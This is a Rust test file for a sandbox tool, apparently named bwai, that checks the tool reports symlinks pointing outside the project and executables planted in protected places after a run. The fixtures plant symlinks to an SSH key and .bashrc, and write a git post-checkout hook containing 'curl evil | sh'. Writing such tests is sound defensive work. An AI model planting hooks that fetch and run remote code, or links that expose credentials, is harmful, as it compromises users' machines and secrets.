//! What the sandbox leaves behind that would act outside it once it is
//! gone: symlinks out of the project made during the run, and executable
//! files in protected places that got through. Each is told on stderr and
//! in the report's `left_behind`; what was there before, and links that
//! stay inside the project, are not.

mod common;

use std::fs;
use std::os::unix::fs::PermissionsExt;

use serde_json::Value;

use common::*;

/// `bwai -q --report R -- sh -c SCRIPT` in `mode`: the output, and the
/// report's `left_behind`.
fn run_sh(env: &Env, mode: Mode, script: &str) -> (RunOutput, Vec<Value>) {
    let report = env.root.path().join("report.json");
    let _ = fs::remove_file(&report);
    let out = run(env.bwai(
        mode,
        &[
            "-q",
            "--report",
            report.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            script,
        ],
    ));
    assert!(out.stdout.contains("done"), "{mode:?}\n{}", out.describe());
    let r: Value = serde_json::from_str(&fs::read_to_string(&report).unwrap()).unwrap();
    let left = r["left_behind"]
        .as_array()
        .unwrap_or_else(|| panic!("no left_behind array: {r:#}"))
        .clone();
    (out, left)
}

fn lines(out: &RunOutput) -> Vec<&str> {
    out.stderr
        .lines()
        .filter(|l| l.starts_with("bwai: left behind: "))
        .collect()
}

/// The modes these tests run in: the namespace view, and the Landlock-only
/// fallback (the one where the sandbox sees the host's paths).
fn modes() -> [Mode; 3] {
    all_modes()
}

#[test]
fn planted_symlink_out_of_the_project_is_reported() {
    for mode in modes() {
        let env = Env::new();
        fs::create_dir_all(env.project.join("src")).unwrap();
        let key = env.ssh_key();
        let script = format!(
            "ln -s {} src/x && ln -s ../../../.bashrc src/rc && mkdir -p node_modules/p && ln -s / node_modules/p/root && echo done",
            key.display()
        );
        let (out, left) = run_sh(&env, mode, &script);
        let mut got = lines(&out);
        got.sort();
        assert_eq!(
            got,
            vec![
                "bwai: left behind: symlink node_modules/p/root -> / (points outside the project)",
                "bwai: left behind: symlink src/rc -> ../../../.bashrc (points outside the project)",
                &format!(
                    "bwai: left behind: symlink src/x -> {} (points outside the project)",
                    key.display()
                ),
            ],
            "{mode:?}\n{}",
            out.describe()
        );
        assert_eq!(left.len(), 3, "{mode:?}: {left:?}");
        let x = left.iter().find(|f| f["path"] == "src/x").unwrap();
        assert_eq!(x["kind"], "symlink");
        assert_eq!(x["target"], key.to_str().unwrap());
        assert_eq!(x["why"], "points outside the project");
        // Reported, not removed: the user decides.
        assert!(fs::symlink_metadata(env.project.join("src/x")).is_ok());
    }
}

#[test]
fn symlinks_that_existed_before_the_run_are_not_reported() {
    for mode in modes() {
        let env = Env::new();
        std::os::unix::fs::symlink(env.ssh_key(), env.project.join("old-link")).unwrap();
        std::os::unix::fs::symlink("/usr/share", env.project.join("share")).unwrap();
        let (out, left) = run_sh(&env, mode, "echo done");
        assert!(lines(&out).is_empty(), "{mode:?}\n{}", out.describe());
        assert!(left.is_empty(), "{mode:?}: {left:?}");
        // But one the sandbox replaced, pointing elsewhere, is.
        let (out, left) = run_sh(&env, mode, "rm share && ln -s /etc share && echo done");
        assert_eq!(
            lines(&out),
            vec!["bwai: left behind: symlink share -> /etc (points outside the project)"],
            "{mode:?}\n{}",
            out.describe()
        );
        assert_eq!(left.len(), 1);
    }
}

#[test]
fn symlinks_pointing_inside_the_project_are_not_reported() {
    for mode in modes() {
        let env = Env::new();
        let name = env
            .project
            .file_name()
            .unwrap()
            .to_str()
            .unwrap()
            .to_string();
        let script = format!(
            "mkdir -p a/b && ln -s README r && ln -s ../../README a/b/up && ln -s {} abs && \
             ln -s ../{name}/README roundtrip && ln -s does-not-exist dangling && echo done",
            env.project.join("a").display()
        );
        let (out, left) = run_sh(&env, mode, &script);
        assert!(lines(&out).is_empty(), "{mode:?}\n{}", out.describe());
        assert!(left.is_empty(), "{mode:?}: {left:?}");
    }
}

#[test]
fn executable_that_gets_through_into_a_protected_place_is_reported() {
    // A hooks folder too large to keep a copy of is not restored (bwai
    // warns); with namespaces it is still a read-only mount, without them
    // whatever the sandbox plants there stays, and must at least be
    // reported. Where nothing gets through, nothing may be reported.
    for mode in modes() {
        let env = Env::new();
        let hooks = env.project.join(".git/hooks");
        fs::create_dir_all(&hooks).unwrap();
        fs::File::create(hooks.join("big.pack"))
            .unwrap()
            .set_len(17 << 20)
            .unwrap();
        write_file(&hooks.join("pre-commit.sample"), "#!/bin/sh\n", 0o755);
        let (out, left) = run_sh(
            &env,
            mode,
            "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/post-checkout 2>/dev/null; \
             chmod +x .git/hooks/post-checkout 2>/dev/null; echo done",
        );
        let planted = fs::metadata(hooks.join("post-checkout"))
            .is_ok_and(|m| m.permissions().mode() & 0o111 != 0);
        let said = lines(&out).contains(
            &"bwai: left behind: executable .git/hooks/post-checkout (new executable file in a protected place)",
        );
        assert_eq!(
            planted,
            said,
            "{mode:?}: planted={planted}, reported={said}\n{}",
            out.describe()
        );
        assert_eq!(left.len(), usize::from(planted), "{mode:?}: {left:?}");
        if planted {
            assert_eq!(left[0]["kind"], "executable");
            assert_eq!(left[0]["path"], ".git/hooks/post-checkout");
        }
        // The sample that was there before is not reported.
        assert!(
            !out.stderr.contains("pre-commit.sample"),
            "{}",
            out.describe()
        );
    }
}

#[test]
fn nothing_left_gives_an_empty_array() {
    for mode in modes() {
        let env = Env::new();
        let (out, left) = run_sh(&env, mode, "echo hi > file && echo done");
        assert!(lines(&out).is_empty(), "{}", out.describe());
        assert!(left.is_empty());
    }
}
